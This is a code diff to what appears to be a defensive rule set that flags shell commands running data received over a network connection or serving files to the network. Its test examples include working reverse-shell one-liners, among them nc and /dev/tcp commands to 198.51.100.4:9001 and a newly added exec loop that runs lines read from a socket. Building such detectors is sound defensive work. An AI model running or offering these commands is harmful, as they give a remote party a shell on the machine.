@@ -2,10 +2,13 @@
 import { hostOf, isLoopback } from '../core/host.ts';
 import type { Word } from '../core/invocation.ts';
 import { defineRule, type Rule } from '../core/rule.ts';
-import { show, text } from '../core/value.ts';
+import { show, type Taint, text, why } from '../core/value.ts';
 
 /** Where a raw connection comes from: an address and a port, or a port that is listened on; no URL. */
 const SOCKET = /^([\w.-]+:)?\d+$|^any$/;
+
+const fromSocket = (taints: readonly Taint[]): boolean =>
+  taints.some(({ label, from }) => label === 'downloaded' && SOCKET.test(from));
 
 const nameOf = (argv: readonly Word[]): string => (argv[0] ? (text(argv[0].value) ?? '') : '').replace(/^.*\//, '');
 
@@ -40,11 +43,11 @@ const piped = defineRule({
   match: (effect, scope) => {
     const words = scope.invocations[effect.invocation]?.argv ?? [];
     const name = nameOf(words);
+    const [first] = words;
+    if (first && why(first.value) !== undefined && fromSocket(first.taints))
+      return 'This runs what a network connection sends';
     if (!/^(ba|z|da|k|a|fi|tc|c)?sh$/.test(name) || effect.place.kind !== 'local') return undefined;
-    if (
-      effect.kind === 'code.run' &&
-      effect.taints.some(({ label, from }) => label === 'downloaded' && SOCKET.test(from))
-    )
+    if (effect.kind === 'code.run' && fromSocket(effect.taints))
       return `This runs what a network connection sends in ${name}`;
     const raw = scope.effects.find(
       (each) => each.kind === 'net.send' && each.channel === 'socket' && !loopback(show(each.to)),
@@ -58,6 +61,7 @@ const piped = defineRule({
       'mkfifo /tmp/p; cat /tmp/p | sh -i 2>&1 | nc 198.51.100.4 9001 > /tmp/p',
       'sh -i < /dev/tcp/198.51.100.4/9001',
       'nc -l 9001 | sh',
+      'exec 5<>/dev/tcp/198.51.100.4/9001; while read -r l <&5; do $l >&5; done',
     ],
     miss: ['cat notes.md | nc files.shop.example 9001', 'bash scripts/build.sh', 'mkfifo /tmp/p && cat /tmp/p'],
   },
@@ -108,8 +112,8 @@ const server = defineRule({
       ? `This serves ${listen.exposes} to the network`
       : undefined,
   examples: {
-    hit: ['miniserve .', 'rsync --daemon'],
-    miss: ['miniserve -i 127.0.0.1 .', 'nc -l 9000', 'miniserve --version'],
+    hit: ['miniserve .', 'rsync --daemon', 'nc -lvnp 9000'],
+    miss: ['miniserve -i 127.0.0.1 .', 'nc -z localhost 9000', 'miniserve --version'],
   },
 });
 
